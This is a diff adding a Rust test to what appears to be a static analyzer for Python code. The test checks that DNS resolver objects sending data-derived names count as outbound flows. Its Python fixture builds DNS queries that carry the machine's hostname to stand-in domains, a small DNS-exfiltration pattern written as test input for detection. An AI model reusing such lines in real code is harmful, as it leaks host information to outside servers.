@@ -1024,3 +1024,26 @@ fn builtins_taken_from_their_namespace_are_resolved() {
     let f = facts("import requests\nlen_ = vars(__builtins__)['len']\nlen_(requests.get('https://b.example.top/p').text)\n");
     assert!(f.dynamic_code.is_empty(), "{:#?}", f.dynamic_code);
 }
+
+/// DNS resolver objects (dnspython's `Resolver()`, aiodns) send a name built from data to its
+/// constant domain, like `dns.resolver.resolve`; the machine's own name alone goes nowhere.
+#[test]
+fn dns_resolver_objects_send_names_built_from_data() {
+    let f = facts(
+        "import socket, dns.resolver, aiodns\n\
+         h = socket.gethostname()\n\
+         r = dns.resolver.Resolver()\n\
+         r.resolve(f'{h}.b.example.top', 'TXT')\n\
+         async def q():\n\
+         \x20   res = aiodns.DNSResolver()\n\
+         \x20   await res.query(f'{h}.c.example.top', 'A')\n\
+         r.resolve(socket.gethostname(), 'A')\n",
+    );
+    let to: Vec<&str> = f
+        .flows
+        .iter()
+        .flat_map(|fl| fl.endpoints.iter().map(String::as_str))
+        .collect();
+    assert_eq!(to, vec!["b.example.top", "c.example.top"], "{:#?}", f.flows);
+    assert!(f.flows.iter().all(|fl| fl.sink == SinkKind::Dns));
+}
